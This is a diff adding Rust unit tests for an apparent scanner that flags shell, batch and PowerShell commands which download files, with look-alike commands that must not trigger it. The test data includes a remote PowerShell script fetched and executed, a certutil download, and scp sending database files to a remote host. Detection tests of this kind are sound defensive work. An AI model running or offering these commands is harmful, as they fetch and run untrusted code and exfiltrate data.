@@ -832,6 +832,126 @@ mod tests {
         }
     }
 
+    /// Downloads whose target comes from input, arrays and loops.
+    const INPUT_FED: &[(Lang, &str, &str)] = &[
+        (Lang::Sh, "wget -q -i /etc/list -P /opt/x", "url-list"),
+        (Lang::Sh, "curl --config /run/c.conf", "curl-config"),
+        (Lang::Sh, "xargs -a /srv/u.txt wget -q -P /srv/c", "wget"),
+        (Lang::Sh, "cat l | xargs -I{} curl -sO {}", "curl"),
+        (
+            Lang::Sh,
+            "parallel curl -sO {} ::: http://203.0.113.7/a",
+            "curl",
+        ),
+        (
+            Lang::Sh,
+            "while IFS= read -r u; do curl -fsO \"$u\"; done < l",
+            "curl",
+        ),
+        (
+            Lang::Sh,
+            "for u in http://203.0.113.7/a; do wget \"$u\"; done",
+            "wget",
+        ),
+        (
+            Lang::Sh,
+            "d=(curl -fsS -o /tmp/r)\n\"${d[@]}\" http://203.0.113.7/r",
+            "curl",
+        ),
+        (Lang::Sh, "curl -o /tmp/x \"$1\"", "curl"),
+        (
+            Lang::Sh,
+            "P=${B:-http://203.0.113.7/w}/x; curl -so /tmp/x \"${P}\"",
+            "curl",
+        ),
+        (
+            Lang::Sh,
+            "find /d -name '*.db' -execdir scp {} u@198.51.100.9:/in/ \\;",
+            "scp-remote",
+        ),
+        (
+            Lang::Sh,
+            "flock -n /run/l -c 'curl -so /tmp/f http://203.0.113.7/f'",
+            "curl",
+        ),
+        (
+            Lang::Batch,
+            "set u=http://203.0.113.7/a\ncurl.exe -o C:\\a !u!",
+            "curl",
+        ),
+        (
+            Lang::Batch,
+            "for /f %%u in (C:\\l.txt) do curl.exe -sO %%u",
+            "curl",
+        ),
+        (
+            Lang::Batch,
+            "forfiles /m x /c \"cmd /c curl -o a http://203.0.113.7/a\"",
+            "curl",
+        ),
+        (
+            Lang::PowerShell,
+            "[string]$s = 'http://203.0.113.7/a'\niwr $s -OutFile a",
+            "powershell-webrequest",
+        ),
+        (
+            Lang::PowerShell,
+            "param([string]$S = 'http://203.0.113.7/a')\nirm -Uri $S -OutFile b",
+            "powershell-webrequest",
+        ),
+        (
+            Lang::PowerShell,
+            "$t = $env:windir + '\\certutil.exe'\n& $t -urlcache -f http://203.0.113.7/a b",
+            "certutil",
+        ),
+        (
+            Lang::PowerShell,
+            "& ([scriptblock]::Create((irm https://203.0.113.7/m.ps1)))",
+            "powershell-webrequest",
+        ),
+        (
+            Lang::PowerShell,
+            "gc l.txt | % { iwr $_ -OutFile x }",
+            "powershell-webrequest",
+        ),
+        (
+            Lang::PowerShell,
+            "$u = 'http://203.0.113.7/c.xml'\n$d.Load($u)",
+            "xml-load-url",
+        ),
+    ];
+
+    /// Look-alikes of those: no transfer.
+    const INPUT_FED_LOOK_ALIKES: &[(Lang, &str)] = &[
+        (Lang::Sh, "curl -fsS \"$HEALTH_URL\""),
+        (Lang::Sh, "wget -qO- \"$U\" | head -1"),
+        (Lang::Sh, "cat reqs.txt | xargs pip install"),
+        (Lang::Sh, "find /tmp -name '*.part' -exec rm {} \\;"),
+        (Lang::Sh, "cmd=(wget --version)\n\"${cmd[@]}\""),
+        (Lang::Batch, "set u=http://203.0.113.7/a\necho !u!"),
+        (
+            Lang::PowerShell,
+            "Get-Help Invoke-WebRequest -Examples\nGet-Command Start-BitsTransfer",
+        ),
+        (Lang::PowerShell, "gc l.txt | % { Copy-Item $_ C:\\out }"),
+    ];
+
+    #[test]
+    fn targets_from_input_arrays_and_loops() {
+        for &(lang, src, rule) in INPUT_FED {
+            assert!(
+                hits(lang, src).contains(&rule.to_string()),
+                "{src}: {:?}",
+                hits(lang, src)
+            );
+        }
+        for &(lang, src) in INPUT_FED_LOOK_ALIKES {
+            assert!(hits(lang, src).is_empty(), "{src}: {:?}", hits(lang, src));
+        }
+        // curl -i shows headers: not a URL list.
+        assert_eq!(hits(Lang::Sh, "curl -i https://203.0.113.7/x"), ["curl"]);
+    }
+
     #[test]
     fn substitutions_without_a_program_do_not_panic() {
         // Found by tests/fuzz.rs: an assignment-only command inside `$(…)`.
